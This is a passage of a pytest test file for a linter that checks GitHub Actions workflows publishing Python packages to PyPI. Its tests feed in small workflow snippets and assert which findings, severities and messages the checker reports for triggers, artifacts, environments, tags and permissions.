def test_a_file_that_make_may_build_is_not_missing(step, severities):
    steps = f"      - run: python -m build --wheel\n      - run: {step}"
    assert told_of(steps, "wheel-and-sdist") == severities


@pytest.mark.parametrize(
    ("bound", "needs", "severity"),
    [(">=26", "tests", "warning"), ("<27", "tests", "error"), ("<27", "[]", "warning")],
)
def test_a_bound_without_quotes_fails_a_step_where_it_reads_a_file(bound, needs, severity):
    tests = f"""
  tests: {{runs-on: ubuntu-latest, steps: [{{run: pip install pip{bound}}}]}}"""
    told = told_of(DOWNLOAD, "shell-quoting", before=tests, extra=f"\n    needs: {needs}")
    assert told == [severity]


@pytest.mark.parametrize(("folder", "count"), [("runtimes", 0), (".", 1)])
def test_jobs_that_build_packages_of_their_own_upload_no_parts(folder, count):
    one = """
  one:
    runs-on: ubuntu-latest
    steps: [{run: poetry publish --build}, {run: poetry build}]"""
    steps = f"      - {{run: poetry build, working-directory: {folder}}}"
    assert len(told_of(steps, "parts-uploaded-apart", before=one)) == count


def test_gh_gets_no_token_from_a_step_that_no_release_runs():
    steps = """      - {uses: somebody/something@v1, if: github.event_name == 'schedule'}
      - run: gh release create x"""
    assert told_of(steps, "gh-not-ready") == ["error"]


def test_an_upload_that_only_pull_requests_start_is_meant():
    assert told_of(DOWNLOAD, "trigger-pr", on="pull_request: ") == ["advice"]
    assert told_of(DOWNLOAD, "trigger-pr", on="pull_request: , release: ") == ["warning"]


@pytest.mark.parametrize(("other", "count"), [("demo", 1), ("demo-extras", 0)])
def test_a_job_for_each_project_uploads_no_parts(other, count):
    environment = "{name: pypi, url: https://pypi.org/p/NAME}"
    one = f"""
  one:
    runs-on: ubuntu-latest
    environment: {environment.replace("NAME", "demo")}
    permissions: {{id-token: write}}
    steps:
      - run: python -m build
      - uses: pypa/gh-action-pypi-publish@release/v1"""
    extra = f"\n    environment: {environment.replace('NAME', other)}"
    steps = "      - run: python -m build"
    assert len(told_of(steps, "parts-uploaded-apart", before=one, extra=extra)) == count


def test_runs_of_one_ref_of_a_push_do_not_cancel_each_other():
    text = "\n    concurrency: {group: 'x-${{ github.event.ref }}', cancel-in-progress: true}"
    assert told_of(DOWNLOAD, "concurrency-group", extra=text) == ["advice"]


def test_the_steps_of_a_release_tool_belong_together():
    tool = "jupyter-server/jupyter_releaser/.github/actions"
    text = f"""
on: {{workflow_dispatch: }}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - uses: {tool}/populate-release@v2
      - uses: {tool}/finalize-release@v2
"""
    told = check_workflow(parse_workflow(text, file=FILE), WorkflowFacts())
    assert "publish-steps" not in {one.id for one in told}


@pytest.mark.parametrize(
    ("types", "guard", "severities"),
    [
        ("published", "", []),
        ("published, prereleased", "", ["warning"]),
        ("published, edited", "", []),
        ("published, released", "github.event.action == 'published'", []),
    ],
)
def test_a_release_of_two_types_starts_two_runs(types, guard, severities):
    extra = f"\n    if: {guard}" if guard else ""
    on = f"release: {{types: [{types}]}}"
    assert told_of(DOWNLOAD, "trigger-type", on=on, extra=extra) == severities


TAGGER = """
on: {workflow_dispatch: }
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {id-token: write, contents: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
      - run: RUN
      - run: PUSH
"""


@pytest.mark.parametrize(
    ("run", "push", "severities"),
    [
        ("git tag v$V", "git push origin v$V", ["warning"]),
        ("git tag -a v$V -m v$V $SHA", "git push --tags", ["warning"]),
        ("git tag -f v$V", "git push --tags", []),
        ("git tag --list", "git push origin main", []),
        ("git tag v$V || true", "git push --tags", []),
        ("git tag", "git push --tags", []),
        ("git tag v$V", "ls", []),
    ],
)
def test_a_run_that_is_started_on_a_tag_makes_none(run, push, severities):
    text = TAGGER.replace("RUN", run).replace("PUSH", push)
    assert tags_made_twice(text) == severities


def tags_made_twice(text):
    told = check_workflow(parse_workflow(text, file=FILE), WorkflowFacts())
    found = [one for one in told if one.id == "tag-made-twice" and isinstance(one, Finding)]
    return [one.severity.value for one in found]


def test_a_run_that_is_started_on_a_tag_raises_no_version():
    bumps = "{uses: commitizen-tools/commitizen-action@v1, with: {push: PUSH}}"
    text = TAGGER.replace("run: RUN", bumps).replace("run: PUSH", "run: ls")
    assert tags_made_twice(text.replace("PUSH", "true")) == ["warning"]
    assert tags_made_twice(text.replace("PUSH", "false")) == []
    raises = "uses: callowayproject/bump-my-version@1.3.0"
    assert tags_made_twice(TAGGER.replace("run: RUN", raises)) == ["warning"]


@pytest.mark.parametrize(
    ("inputs", "condition", "severities"),
    [
        ("real: {type: boolean, default: false}", "inputs.real", ["error"]),
        ("real: {type: boolean, default: true}", "inputs.real", []),
        ("real: {default: 'no'}", "github.event.inputs.real == 'yes'", ["error"]),
        ("branch: {required: false}", "inputs.branch == ''", []),
        ("trial: {type: boolean, required: true}", "!inputs.trial", []),
        ("check-only: {type: boolean, default: true}", "!inputs.check-only", []),
    ],
)
def test_a_run_that_is_started_without_inputs_has_their_defaults(inputs, condition, severities):
    text = f"""
on: {{workflow_dispatch: {{inputs: {{{inputs}}}}}}}
jobs:
  publish:
    if: ${{{{ {condition} }}}}
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    facts = WorkflowFacts(starts=("release", "push-tag", "dispatch-tag"))
    told = check_workflow(parse_workflow(text, file=FILE), facts)
    assert [
        one.severity.value
        for one in told
        if one.id == "trigger-matches" and isinstance(one, Finding)
    ] == severities


@pytest.mark.parametrize(("default", "severities"), [("main", ["warning"]), ("", [])])
def test_an_input_that_is_left_out_checks_no_branch_out(default, severities):
    checkout = "      - {uses: actions/checkout@v7, with: {ref: '${{ github.event.inputs.at }}'}}"
    on = f"workflow_dispatch: {{inputs: {{at: {{default: '{default}'}}}}}}"
    assert told_of(checkout, "dispatch-ref", on=on) == severities
    asked = "\n    if: github.event.inputs.at != ''"
    assert told_of(checkout, "dispatch-ref", on=on, extra=asked) == severities


def test_a_secret_for_a_third_index_is_none_of_pypi():
    mirror = "https://mirror.example/projects/${{ needs.build.outputs.name }}/upload"
    step = f"""{DOWNLOAD}      - uses: pypa/gh-action-pypi-publish@release/v1
        with: {{password: "${{{{ secrets.X }}}}", repository-url: "{mirror}"}}"""
    assert told_of(step, "no-manual-twine") == []
    assert told_of(step.replace(mirror, "${{ vars.INDEX }}"), "no-manual-twine") == ["warning"]


def test_a_job_for_one_package_after_the_other_has_many_environments():
    packages = "strategy: {matrix: {include: [{env: pypi-a, name: a}, {env: pypi-b, name: b}]}}"
    extra = "\n    environment: {name: '${{ matrix.env }}', url: 'URL'}\n    " + packages
    page = "https://pypi.org/p/${{ matrix.name }}"
    assert told_of(DOWNLOAD, "env-dynamic", extra=extra.replace("URL", page)) == ["advice"]
    assert told_of(DOWNLOAD, "env-dynamic", extra=extra.replace(", url: 'URL'", "")) == ["warning"]
    trial = "\n    if: github.event_name == 'schedule'" + extra
    assert told_of(DOWNLOAD, "env-dynamic", extra=trial) == []


def test_an_environment_under_the_wrong_key_is_told():
    text = f"""
on: {{push: {{tags: ['v*']}}}}
jobs:
  publish:
    runs-on: ubuntu-latest
    env: {{name: pypi, url: 'https://pypi.org/p/demo'}}
    permissions: {{id-token: write}}
    steps:
{DOWNLOAD}
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    told = check_workflow(parse_workflow(text, file=FILE), WorkflowFacts())
    (found,) = [one for one in told if one.id == "env-present" and isinstance(one, Finding)]
    assert found.message == (
        "Job `publish` has no environment. Its `env:` has a `name` and a `url`: "
        "`environment:` is meant."
    )


PASSES_IT_ON = """
on: {push: {tags: ['v*']}}
jobs:
  release:
    uses: ./.github/workflows/other.yml
    secrets: inherit
"""
HAS_IT_INSIDE = """
on: {workflow_call: }
jobs:
  publish:
    runs-on: ubuntu-latestENVIRONMENT
    steps:
      - {uses: pypa/gh-action-pypi-publish@release/v1, with: {password: "${{ secrets.TOKEN }}"}}
"""


@pytest.mark.parametrize(("environment", "count"), [("", 1), ("\n    environment: pypi", 0)])
def test_a_called_workflow_uploads_in_an_environment_too(environment, count):
    called = HAS_IT_INSIDE.replace("ENVIRONMENT", environment)
    found = results(PASSES_IT_ON, "env-present", {"others": [called]})
    assert [one.where.file for one in found] == [".github/workflows/other.yml"] * count


@pytest.mark.parametrize(("script", "count"), [("python -m build", 1), ("ls dist", 0)])
def test_a_script_that_builds_in_the_uploading_job_is_read(script, count):
    text = """
on: {push: {tags: ['v*']}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - run: bash bin/publish.sh
"""
    steps = f"runs: {{steps: [{{run: '{script}'}}, {{run: twine upload dist/*}}]}}"
    actions = {"bin/publish.sh": parse_composite(steps, file="bin/publish.sh")}
    told = check_workflow(parse_workflow(text, file=FILE), WorkflowFacts(actions=actions))
    found = [one for one in told if one.id == "split-build-publish" and isinstance(one, Finding)]
    assert [one.message for one in found] == [
        "Job `publish` builds the files and uploads them (in bin/publish.sh)."
    ] * count


def test_what_poetry_builds_as_it_publishes_is_compared_with_the_tag_too():
    run = "poetry publish --build"
    text = f"""
on: {{push: {{tags: ['v*']}}}}
jobs:
  publish:
    runs-on: ubuntu-latest
    steps: [{{run: {run}, env: {{POETRY_PYPI_TOKEN_PYPI: '${{{{ secrets.T }}}}'}}}}]
"""
    found = results(text, "version-equals-tag", {"version_from_tags": False})
    assert [type(one) for one in found] == [Finding]


@pytest.mark.parametrize(("last", "count"), [(True, 1), (False, 0)])
def test_what_looks_at_the_tag_after_the_upload_compares_nothing(last, count):
    look = "      - run: gh workflow run next.yml -f version=${{ github.ref_name }}\n"
    upload = "      - uses: pypa/gh-action-pypi-publish@release/v1\n"
    text = f"""
on: {{push: {{tags: ['v*']}}}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - run: python -m build
{upload + look if last else look + upload}"""
    found = results(text, "version-equals-tag", {"version_from_tags": False})
    assert len([one for one in found if isinstance(one, Finding)]) == count


def test_what_no_tag_starts_compares_with_no_tag():
    text = """
on: {push: {branches: [main]}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - run: |
          uvx hatchling build
          twine --version
      - uses: pypa/gh-action-pypi-publish@release/v1
  image:
    needs: publish
    runs-on: ubuntu-latest
    steps: [{run: 'docker build -t "demo:${GITHUB_REF#refs/tags/}" .'}]
"""
    for on, count in (("branches: [main]", 0), ("tags: ['v*']", 1)):
        workflow = parse_workflow(text.replace("branches: [main]", on), file=FILE)
        told = check_workflow(workflow, WorkflowFacts(version_from_tags=False))
        found = [one for one in told if one.id == "version-equals-tag"]
        assert len([one for one in found if isinstance(one, Finding)]) == count


def test_artifacts_by_their_number_are_of_this_run():
    step = "      - {uses: actions/download-artifact@v8, with: {artifact-ids: '${{ needs.b.outputs.n }}'}}"
    text = f"""
on: {{push: {{tags: ['v*']}}}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
{step}
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    told = check_workflow(parse_workflow(text, file=FILE), WorkflowFacts())
    (skipped,) = [one for one in told if one.id == "artifact-name-path"]
    assert isinstance(skipped, Skipped)
    assert skipped.reason == "job `publish` downloads artifacts by their number"


AFTER_SKIPPED = """
on: {push: {branches: [main], tags: ['v*']}}
jobs:
  schema: {if: "github.ref == 'refs/heads/main'", runs-on: ubuntu-latest, steps: [{run: make}]}
  build:
    needs: schema
    if: "!cancelled()"
    runs-on: ubuntu-latest
    steps: [{run: pipx run build}]
  publish:
    needs: build
    if: "%s"
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: actions/download-artifact@v8
      - uses: pypa/gh-action-pypi-publish@release/v1
"""


@pytest.mark.parametrize(
    ("condition", "runs"),
    [
        ("startsWith(github.ref, 'refs/tags/')", False),
        ("success()", False),
        ("", False),
        ("!cancelled() && !failure()", True),
        ("always() && needs.build.result == 'success'", True),
        ("always() && needs.build.result == 'skipped'", False),
    ],
)
def test_a_job_that_was_skipped_far_before_skips_the_upload(condition, runs):
    found = results(AFTER_SKIPPED % condition, "trigger-matches", {"starts": ["push-tag"]})
    assert [one.message for one in found] == (
        []
        if runs
        else [
            "`push` starts the workflow, but not its job `schema`, and whatever waits for a skipped "
            "job, near or far, is skipped too: the upload."
            if "result" not in condition
            else f"`push` starts the workflow, but `if: {condition}` skips the upload."
        ]
    )


@pytest.mark.parametrize(
    ("condition", "severities"),
    [
        ("", []),
        ("github.event_name == 'push'", []),
        ("!failure() && !cancelled()", []),
        ("always() && !cancelled()", ["warning"]),
        ("always() && needs.build.result == 'success'", ["advice"]),
        ("always() && needs.build.result == 'success' && needs.tests.result != 'failure'", []),
    ],
)
def test_an_upload_that_failed_tests_do_not_stop_is_told(condition, severities):
    before = """
  tests: {runs-on: ubuntu-latest, steps: [{run: make test}]}
  build: {runs-on: ubuntu-latest, steps: [{run: pipx run build}]}"""
    extra = f'\n    needs: [tests, build]\n    if: "{condition}"'
    told = told_of(DOWNLOAD, "fail-visible", before=before, extra=extra)
    assert told == severities


@pytest.mark.parametrize(
    ("builds", "hands_over", "severities"),
    [
        ("python -m build", "", []),
        ("python -m build", "upload", ["warning"]),
        ("ls", "", ["warning"]),
    ],
)
def test_a_trial_build_may_fail_where_another_one_is_uploaded(builds, hands_over, severities):
    upload = ", {uses: actions/upload-artifact@v7}" if hands_over else ""
    before = f"""
  trial:
    runs-on: ubuntu-latest
    continue-on-error: true
    steps: [{{run: python -m build}}{upload}]"""
    told = told_of(f"      - run: {builds}", "fail-visible", before=before)
    assert told == severities


@pytest.mark.parametrize(
    ("ref", "severities"),
    [
        ("v1", ["error"]),
        ("release/v1.5.0", ["error"]),
        ("master", ["warning"]),
        ("release/v1", []),
        ("release/v1.14", []),
        ("v1.14.2", []),
    ],
)
def test_a_version_that_the_action_does_not_have_ends_the_run(ref, severities):
    text = f"on: push\njobs: {{p: {{runs-on: x, steps: [{{uses: pypa/gh-action-pypi-publish@{ref}}}]}}}}"
    found = results(text, "action-branch", {})
    assert [one.severity.value for one in found] == severities


@pytest.mark.parametrize(
    ("script", "severities"),
    [
        ("uv pip install x", ["error"]),
        ("uv tool install twine\ntwine check dist/*", ["error", "error"]),
        ("for n in 1 2; do\nif uv pip install x; then\nexit 0\nfi\ndone\nexit 1", ["warning"]),
        ("if [ -f uv.lock ]; then\nuv build\nelse\npython -m build\nfi", ["warning"]),
        ("if command -v uv; then echo yes; fi\nuv build", ["error"]),
        ("pip install uv\nif ! uv pip install x; then exit 1; fi", []),
    ],
)
def test_what_a_missing_tool_would_install_is_missing_too(script, severities):
    lines = "\n".join(f"          {line}" for line in script.splitlines())
    steps = f"{DOWNLOAD}      - run: |\n{lines}"
    assert told_of(steps, "tool-not-installed") == severities


@pytest.mark.parametrize(
    ("runner", "severities"),
    [("${{ matrix.os }}", ["warning"]), ("ubuntu-latest", [])],
)
def test_an_artifact_that_each_machine_overwrites_keeps_one_machines_files(runner, severities):
    before = f"""
  build:
    runs-on: {runner}
    strategy: {{matrix: {{os: [ubuntu-latest, macos-latest]}}}}
    steps:
      - uses: actions/upload-artifact@v7
        with: {{name: dist, path: dist, overwrite: true}}"""
    extra = "\n    needs: build"
    assert told_of(DOWNLOAD, "artifact-unique", before=before, extra=extra) == severities


@pytest.mark.parametrize(("more", "severities"), [("image", ["error"]), ("", [])])
def test_two_artifacts_get_folders_of_their_own_whatever_else_there_is(more, severities):
    other = f"\n      - {{uses: actions/upload-artifact@v7, with: {{name: {more}, path: x/}}}}"
    before = f"""
  build:
    runs-on: ubuntu-latest
    steps:
      - run: pipx run build
      - uses: docker/build-push-action@v6
      - {{uses: actions/upload-artifact@v7, with: {{path: dist/}}}}{other if more else ""}"""
    steps = "      - {uses: actions/download-artifact@v8, with: {path: dist}}"
    extra = "\n    needs: build"
    assert told_of(steps, "artifact-merge", before=before, extra=extra) == severities


CALLED = """
on: {pull_request: , workflow_call: {inputs: {publish: {type: boolean}}}}
jobs:
  publish:
    if: inputs.publish
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: actions/download-artifact@v8
      - uses: pypa/gh-action-pypi-publish@release/v1
%s"""


@pytest.mark.parametrize(
    ("on", "more", "rules"),
    [
        ("push: {tags: ['v*']}", "", {"reusable-publish"}),
        ("push: {branches: [main]}", "", {"trigger-matches"}),
        ("push: {tags: ['v*']}", "        with: {password: '${{ secrets.T }}'}\n", set()),
        ("push: {tags: ['v*']}", "        with: {attestations: false}\n", set()),
    ],
)
def test_a_release_that_gets_to_the_upload_by_a_call_alone_is_refused(on, more, rules):
    other = f"on: {{{on}}}\njobs: {{wheels: {{uses: ./{FILE}, with: {{publish: true}}}}}}"
    changes = {"starts": ["push-tag", "release"], "others": [other]}
    told = check_workflow(parse_workflow(CALLED % more, file=FILE), facts(changes))
    found = {one.id for one in told if isinstance(one, Finding)}
    assert found & {"reusable-publish", "trigger-matches"} == rules


@pytest.mark.parametrize(
    ("ref", "severities"),
    [
        ("", []),
        ("${{ github.ref }}", []),
        ("${{ github.event.release.tag_name }}", []),
        ("${{ github.sha }}", ["error"]),
        ("main", ["error"]),
    ],
)
def test_a_check_out_of_a_commit_or_branch_brings_no_tag(ref, severities):
    given = f", with: {{ref: '{ref}'}}" if ref else ""
    steps = f"      - {{uses: actions/checkout@v7{given}}}\n      - run: pipx run build"
    assert told_of(steps, "scm-depth", on="release: {types: [published]}") == severities


@pytest.mark.parametrize(
    ("run", "packages", "severities"),
    [
        ("pipx run build", "dist", ["error"]),
        ("python -m build", "dist", ["error"]),
        ("python -m build", "client/dist", []),
        ("python -m build", "'${{ vars.FOLDER }}'", []),
        ("python -m build --outdir ../dist", "dist", []),
        ("python -m build --outdir=../dist", "dist", []),
        ("make dist", "dist", []),
    ],
)
def test_a_working_directory_is_not_the_actions(run, packages, severities):
    text = f"""
on: {{release: {{types: [published]}}}}
jobs:
  publish:
    runs-on: ubuntu-latest
    defaults: {{run: {{working-directory: client}}}}
    steps:
      - uses: actions/checkout@v7
      - run: {run}
      - uses: pypa/gh-action-pypi-publish@release/v1
        with: {{packages-dir: {packages}}}
"""
    found = results(text, "artifact-name-path", {})
    assert [one.severity.value for one in found] == severities


@pytest.mark.parametrize(
    ("on", "condition", "count"),
    [
        ("push", "startsWith(github.ref, 'refs/tags')", 1),
        ("push", "startsWith(github.ref, 'refs/tags/v')", 0),
        ("{push: {tags: ['*']}}", "", 1),
        ("{push: {tags: ['v*']}}", "", 0),
        ("{release: {types: [published]}}", "", 0),
    ],
)
def test_any_tag_that_names_the_version_is_advice(on, condition, count):
    text = f"""
on: {on}
jobs:
  publish:
    if: ${{{{ {condition or "true"} }}}}
    runs-on: ubuntu-latest
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    found = results(text, "trigger-foreign-tag", {"version_from_tags": True})
    assert [one.severity for one in found] == [Severity.ADVICE] * count
    assert results(text, "trigger-foreign-tag", {"version_from_tags": False}) == []


@pytest.mark.parametrize(("tag", "pattern"), [("0.18.4", "[0-9]*"), ("v1.2", "v[0-9]*")])
def test_pattern_that_keeps_foreign_tags_out_takes_the_tags_of_this_project(tag, pattern):
    text = """
on: {push: {tags: ['*']}}
jobs: {publish: {runs-on: x, steps: [{uses: pypa/gh-action-pypi-publish@release/v1}]}}
"""
    (found,) = results(text, "trigger-foreign-tag", {"version_from_tags": True, "tag": tag})
    assert f"`push: tags: ['{pattern}']`" in found.fix


@pytest.mark.parametrize(
    ("axis", "condition", "count"),
    [
        ("[ubuntu-latest, macos-latest]", "", 1),
        ("[ubuntu-latest, macos-latest]", "matrix.os == 'ubuntu-latest'", 0),
        ("[ubuntu-latest, ubuntu-26.04-arm]", "", 0),
        ("'${{ fromJSON(vars.MACHINES) }}'", "", 0),
    ],
)
def test_each_machine_of_a_matrix_that_uploads_is_linux(axis, condition, count):
    text = f"""
on: {{release: {{types: [published]}}}}
jobs:
  wheels:
    runs-on: ${{{{ matrix.os }}}}
    strategy: {{matrix: {{os: {axis}}}}}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
        if: ${{{{ {condition or "true"} }}}}
"""
    assert len(results(text, "linux-runner", {})) == count


@pytest.mark.parametrize(("needs", "count"), [("[release, wheels]", 1), ("wheels", 0)])
def test_an_sdist_that_goes_up_before_the_wheels_is_a_part(needs, count):
    text = f"""
on: {{push: {{tags: ['v*']}}}}
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: pipx run build --sdist
      - uses: pypa/gh-action-pypi-publish@release/v1
  wheels: {{runs-on: ubuntu-latest, steps: [{{uses: pypa/cibuildwheel@v4.3.5}}]}}
  upload:
    needs: {needs}
    runs-on: ubuntu-latest
    steps:
      - uses: actions/download-artifact@v8
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    assert len(results(text, "parts-uploaded-apart", {})) == count


@pytest.mark.parametrize(("needs", "count"), [("[sdist, wheels]", 1), ("[sdist]", 0)])
def test_an_sdist_that_wheels_are_built_beside_is_a_part(needs, count):
    """As in falconry/falcon: where a wheel fails to build, the sdist is on PyPI already."""
    text = f"""
on: {{push: {{tags: ['v*']}}}}
jobs:
  sdist: {{runs-on: ubuntu-latest, steps: [{{run: python -m build}}]}}
  wheels: {{needs: sdist, runs-on: ubuntu-latest, steps: [{{run: cibuildwheel .}}]}}
  first:
    needs: sdist
    runs-on: ubuntu-latest
    steps: [{{uses: pypa/gh-action-pypi-publish@release/v1}}]
  second:
    needs: {needs}
    runs-on: ubuntu-latest
    steps: [{{uses: pypa/gh-action-pypi-publish@release/v1}}]
"""
    assert len(results(text, "parts-uploaded-apart", {})) == count


@pytest.mark.parametrize("option", ["--outdir=wheels", "--outdir wheels", "-owheels", "-o wheels"])
def test_a_build_that_says_where_it_writes_misses_no_artifact(option):
    build = f"""
  build:
    runs-on: ubuntu-latest
    steps:
      - run: python -m build --sdist {option}
      - {{uses: actions/upload-artifact@v7, with: {{name: dist, path: wheels/*.tar.gz}}}}"""
    needs = "\n    needs: build"
    assert told_of(DOWNLOAD, "artifact-name-path", before=build, extra=needs) == []
    other = build.replace(option, "")
    assert told_of(DOWNLOAD, "artifact-name-path", before=other, extra=needs) == ["error"]


def test_a_trial_upload_may_build_its_files():
    trial = """
  trial:
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - run: uv build
      - {uses: pypa/gh-action-pypi-publish@release/v1, with: {repository-url: "https://test.pypi.org/legacy/"}}"""
    assert told_of(DOWNLOAD, "split-build-publish", before=trial) == []
    assert told_of("      - run: uv build", "split-build-publish", before=trial) == ["warning"]


def test_a_release_that_aio_libs_action_makes_is_made_twice():
    steps = f"{DOWNLOAD}      - uses: aio-libs/create-release@v1.6.6"
    assert told_of(steps, "release-made-twice") == ["error"]


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("echo x > demo/_build.py", []),
        ("echo x >> demo/_build.py", ["warning"]),
        ("echo x >> 'demo/_build.py'", ["warning"]),
        ("echo 'x >> demo/_build.py'", []),
        ("sed -i s/a/b/ pyproject.toml", ["warning"]),
    ],
)
def test_a_new_file_makes_no_version_a_local_one(command, told):
    steps = f"      - run: {command}\n      - run: python -m build"
    assert told_of(steps, "scm-dirty") == told


@pytest.mark.parametrize(("name", "told"), [("dist-x", []), ("dist-*", ["error"])])
def test_an_artifact_has_no_star_in_its_name(name, told):
    build = """
  build:
    strategy: {matrix: {os: [a, b]}}
    runs-on: ubuntu-latest
    steps:
      - {uses: actions/upload-artifact@v7, with: {name: "dist-${{ matrix.os }}", path: dist}}"""
    down = f'      - {{uses: actions/download-artifact@v8, with: {{name: "{name}", path: dist}}}}'
    needs = "\n    needs: build"
    assert told_of(down, "artifact-name-path", before=build, extra=needs) == told


@pytest.mark.parametrize(("ref", "count"), [("github.event.ref", 1), ("github.ref", 0)])
def test_the_payload_of_a_release_has_no_ref(ref, count):
    text = f"""
on: {{release: {{types: [published]}}}}
jobs:
  publish:
    if: startsWith({ref}, 'refs/tags')
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    assert len(results(text, "trigger-matches", {})) == count


@pytest.mark.parametrize("step", ["run: pixi run verify", "run: make"])
def test_a_publish_job_that_runs_something_does_more_than_upload(step):
    upload = "      - {uses: casperdcl/deploy-pypi@v3, with: {upload: true}}\n"
    assert told_of(f"{upload}      - {step}", "publish-steps") == ["warning"]
    other = DEPLOY_ALONE % step
    told = check_workflow(parse_workflow(other, file=FILE), WorkflowFacts())
    assert "publish-steps" in {one.id for one in told if isinstance(one, Finding)}


DEPLOY_ALONE = """
on: {push: {tags: ["v*"]}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - %s
      - {uses: casperdcl/deploy-pypi@v3, with: {upload: true}}
"""


@pytest.mark.parametrize(("folder", "count"), [(".", 1), ("other", 0)])
def test_parts_of_one_folder_are_uploaded_apart(folder, count):
    one = f"""
  wheels:
    runs-on: ubuntu-latest
    steps:
      - run: cibuildwheel .
  sdist:
    runs-on: ubuntu-latest
    steps:
      - run: python -m build {folder}
  first:
    needs: wheels
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1"""
    needs = "\n    needs: sdist"
    assert len(told_of(DOWNLOAD, "parts-uploaded-apart", before=one, extra=needs)) == count


CALLED_BUILD = """
on: {workflow_call: }
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: uv build
        working-directory: ${{ env.TMPDIR }}
"""


def test_a_second_workflow_that_builds_nobody_knows_what_is_no_second_uploader():
    call = "jobs: {build: {uses: ./.github/workflows/called.yml}, publish: {needs: build, "
    other = f"""
on: {{release: {{types: [published]}}}}
{call}runs-on: ubuntu-latest, permissions: {{id-token: write}}, steps: [
  {{uses: pypa/gh-action-pypi-publish@release/v1}}]}}}}
"""
    own = other.replace("{uses: ./.github/workflows/called.yml}", "{steps: [{run: uv build}]}")
    for text, count in ((CALLED_BUILD, 0), (CALLED_BUILD.replace("${{ env.TMPDIR }}", "."), 1)):
        called = parse_workflow(text, file=".github/workflows/called.yml")
        second = parse_workflow(other, file=".github/workflows/other.yml")
        facts = WorkflowFacts(others=(called, second))
        told = check_workflow(parse_workflow(own, file=FILE), facts)
        assert len([one for one in told if one.id == "second-uploader"]) == count


@pytest.mark.parametrize(
    ("permissions", "asked", "count"),
    [
        ("", "id-token: write", 1),  # no repository's default has an identity token
        ("", "contents: write", 0),
        ("permissions: read-all", "contents: write", 1),
        ("permissions: {contents: write}", "contents: write", 0),
    ],
)
def test_a_called_workflow_asks_for_no_more_than_its_caller_gives(permissions, asked, count):
    called = f"on: workflow_call\njobs: {{a: {{permissions: {{{asked}}}, steps: [{{run: make}}]}}}}"
    text = f"""
on: {{push: {{tags: ["v*"]}}}}
{permissions}
jobs:
  build: {{uses: ./.github/workflows/other.yml}}
  publish:
    needs: build
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    assert len(results(text, "called-permissions", {"others": [called]})) == count


@pytest.mark.parametrize(("needs", "severity"), [("first", "warning"), ("made", ""), ("", "error")])
def test_a_download_waits_for_the_job_that_makes_the_artifact(needs, severity):
    jobs = """
  first: {runs-on: ubuntu-latest, steps: [{run: make}]}
  made:
    runs-on: ubuntu-latest
    steps:
      - {uses: actions/upload-artifact@v7, with: {name: dist, path: dist}}"""
    extra = f"\n    needs: [{needs}]"
    told = told_of(DOWNLOAD, "artifact-name-path", before=jobs, extra=extra)
    assert told == [severity] * bool(severity)


@pytest.mark.parametrize(
    ("folder", "told"), [("dist", ["error"]), ("${{ steps.x.outputs.dist }}", [])]
)
def test_files_that_are_inspected_are_not_in_dist(folder, told):
    text = f"""
on: {{push: {{tags: ["v*"]}}}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - uses: actions/checkout@v7
      - {{id: x, uses: hynek/build-and-inspect-python-package@v2}}
      - uses: pypa/gh-action-pypi-publish@release/v1
        with: {{packages-dir: "{folder}"}}
"""
    found = results(text, "artifact-name-path", {})
    assert [one.severity.value for one in found if isinstance(one, Finding)] == told


def test_a_candidate_is_no_release_of_type_released():
    text = """
on: {release: {types: [released]}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    found = results(text, "trigger-matches", {"tag": "v1.0.0rc1"})
    assert [one.message for one in found] == [
        "A release of `v1.0.0rc1` raises none of the types released."
    ]
    assert results(text, "trigger-matches", {"tag": "v1.0.0"}) == []


def test_the_condition_that_skips_the_upload_is_named():
    text = """
on: {release: {types: [published]}}
jobs:
  publish:
    if: github.ref == 'refs/heads/main'
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    (found,) = results(text, "trigger-matches", {})
    assert "`if: github.ref == 'refs/heads/main'` skips the upload" in found.message


@pytest.mark.parametrize(
    ("condition", "count"),
    [
        ("startsWith(github.ref, 'refs/tags')", 1),
        ("github.ref_type == 'tag'", 1),
        ("github.ref == format('refs/tags/v{0}', steps.built.outputs.version)", 0),
    ],
)
def test_whether_there_is_a_tag_is_no_comparison_with_it(condition, count):
    text = f"""
on: {{push: {{tags: ["v*"]}}}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}
    steps:
      - run: python -m build
      - uses: actions/upload-artifact@v7
        with: {{name: "demo-${{{{ github.ref_name }}}}.tar.gz", path: dist/*gz}}
      - if: {condition}
